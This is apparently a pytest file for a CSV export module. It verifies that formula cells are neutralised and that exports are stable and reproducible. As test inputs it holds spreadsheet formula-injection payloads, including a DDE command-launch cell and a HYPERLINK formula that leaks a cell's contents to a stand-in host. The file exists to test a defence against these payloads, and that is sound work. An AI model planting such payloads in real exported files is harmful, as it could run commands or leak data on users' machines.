"""CSV that a spreadsheet shows as text, never runs; stable and reproducible."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from conftest import FIXTURES, run

from ingest.reports.export import Look, neutralise, text, write_csv


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("plain", "plain"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (datetime(2022, 2, 15, 13, tzinfo=UTC), "2022-02-15T13:00:00Z"),
        (date(2022, 2, 15), "2022-02-15"),
        (["UKR", "RUS"], "UKR;RUS"),
        (-1.5, "-1.5"),
        (Decimal("2.50"), "2.50"),
        ({"b": 1, "a": 2}, '{"a": 2, "b": 1}'),
    ],
)
def test_text(value, expected):
    assert text(value) == expected


def test_csv_keeps_numbers_and_neutralises_text_and_header():
    buffer = io.StringIO()
    write_csv(buffer, ["=cmd", "n"], [("-3", -3), ("=1+1", 2.5)])
    assert buffer.getvalue() == "'=cmd,n\n-3,-3\n'=1+1,2.5\n"
    raw = io.StringIO()
    write_csv(raw, ["=cmd"], [("=1+1",)], raw=True)
    assert raw.getvalue() == "=cmd\n=1+1\n"
    crlf = io.StringIO()
    write_csv(crlf, ["n"], [(1,)], crlf=True)
    assert crlf.getvalue() == "n\r\n1\r\n"  # RFC 4180's line ends, when asked


def test_a_hyperlink_description_exports_as_text(tmp_path):
    good = (FIXTURES / "incidents_csv" / "good" / "ukraine-2022.csv").read_text("utf-8").splitlines()
    path = tmp_path / "evil.csv"
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    path.write_text(
        f'{good[0]}\nevil-1,Phishing lure,"{evil.replace(chr(34), chr(34) * 2)}",'
        "phishing,2022-02-15,,,reported,,,,,,,,,,\n",
        "utf-8",
    )
    db = tmp_path / "s.duckdb"
    assert run("ingest", path, "--db", db).code == 0
    out = run("query", "SELECT source_ref, description FROM incidents", "--format", "csv", "--db", db).out
    assert list(csv.reader(io.StringIO(out))) == [["source_ref", "description"], ["evil-1", "'" + evil]]
    raw = run("query", "SELECT description FROM incidents", "--format", "csv", "--raw", "--db", db).out
    assert list(csv.reader(io.StringIO(raw)))[1] == [evil]


def test_report_csv_is_reproducible(fixture_store, tmp_path):
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    for out in (first, second):
        assert run("report", "run", "incidents_near_events", "--out", out, "--db", fixture_store).code == 0
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes().startswith(b"incident_at,incident,event_at,event,lag_hours,within,")
    assert not list(tmp_path.glob(".*.part")), "no temporary file is left behind"


TRICKY = """
SELECT * FROM (VALUES
    (1, '=HYPERLINK("http://x","y")', -12.5::DOUBLE, 0.1::FLOAT, 2.80::DECIMAL(5, 2), true,
     TIMESTAMPTZ '2022-02-15 14:00:00+02', TIMESTAMP '2022-02-15 14:00:00.25', DATE '2022-02-15',
     ['a', NULL, '-x'], [1.5, NULL]::DOUBLE[], [TIMESTAMPTZ '2022-01-01 00:00:00.000001+00'],
     -170141183460469231731687303715884105727::HUGEINT),
    (2, '-12.5', 'nan'::DOUBLE, 'inf'::FLOAT, -0.01::DECIMAL(5, 2), false,
     TIMESTAMPTZ '1969-12-31 23:59:59.5+00', TIMESTAMP '2022-02-15 00:00:00', DATE '1900-01-01',
     [], [-0.0, 1e22, 1e-7]::DOUBLE[], [], 0::HUGEINT),
    (3, E'line\\nbreak, "quoted"\\t', 1e16::DOUBLE, -3.4e38::FLOAT, NULL, NULL,
     NULL, NULL, NULL, NULL, NULL, NULL, NULL),
    (4, '@SUM(A1)', -0.0::DOUBLE, 1::FLOAT, 0::DECIMAL(5, 2), true,
     TIMESTAMPTZ '2022-02-15 23:30:00-05', TIMESTAMP '0999-01-01 00:00:00', DATE '2024-02-29',
     ['+1', '=1', E'\\t'], [1.0]::DOUBLE[], [NULL]::TIMESTAMPTZ[], 1::HUGEINT),
    (5, 'Київ', 5e-324::DOUBLE, NULL, 123.45::DECIMAL(5, 2), false,
     TIMESTAMPTZ '2022-02-15 00:00:00+00', TIMESTAMP '2022-02-15 00:00:00.000001', DATE '2022-02-15',
     ['Київ'], [2.0]::DOUBLE[], [TIMESTAMPTZ '2022-02-15 00:00:00+00'], 2::HUGEINT)
) AS t(n, label, score, f, d, flag, at_utc, at_naive, day, tags, scores, times, big)
ORDER BY n
"""


@pytest.mark.parametrize("raw", [False, True])
def test_csv_made_in_duckdb_is_byte_equal_to_csv_made_in_python(tmp_path, raw):
    """Big exports turn cells to text inside DuckDB; the bytes must not change with the road."""
    import duckdb

    from ingest.reports.results import emit_csv_text as _emit_csv_text

    con = duckdb.connect(str(tmp_path / "store.duckdb"))
    con.execute("SET TimeZone = 'Asia/Tokyo'")  # the session's zone must not leak into the text
    python_road = io.StringIO(newline="")
    cursor = con.execute(TRICKY)
    write_csv(python_road, [d[0] for d in cursor.description], cursor.fetchall(), raw=raw)
    out = tmp_path / "fast.csv"
    assert _emit_csv_text(con, TRICKY + ";\n-- a trailing comment", {}, out, Look(raw=raw))
    assert out.read_bytes().decode("utf-8") == python_road.getvalue()
    assert "'=HYPERLINK" in python_road.getvalue() or raw


def test_doubles_print_the_same_in_duckdb_and_python(tmp_path):
    import duckdb

    from ingest.reports.export import csv_text_sql

    con = duckdb.connect(str(tmp_path / "store.duckdb"))
    con.execute(
        "CREATE TABLE t AS SELECT i, (hash(i) % 2000000)::DOUBLE / 1000.0 * pow(10, i % 40 - 20) * "
        "CASE WHEN i % 3 = 0 THEN -1 ELSE 1 END AS x FROM range(20000) r(i)"
    )
    (projection, _) = csv_text_sql(["x"], ["DOUBLE"]) or ["", ""]
    duck = con.execute(f"SELECT {projection} FROM t ORDER BY i").fetchall()
    python = [text(x) for (x,) in con.execute("SELECT x FROM t ORDER BY i").fetchall()]
    assert [c for (c,) in duck] == python


def test_csv_of_types_only_python_can_print_takes_the_python_road(fixture_store, tmp_path):
    out = tmp_path / "struct.csv"
    result = run("query", "SELECT {'a': 1} AS s, INTERVAL 90 MINUTE AS i", "--out", out, "--db", fixture_store)
    assert result.code == 0
    assert out.read_bytes() == b's,i\n"{""a"": 1}",5400.0\n'
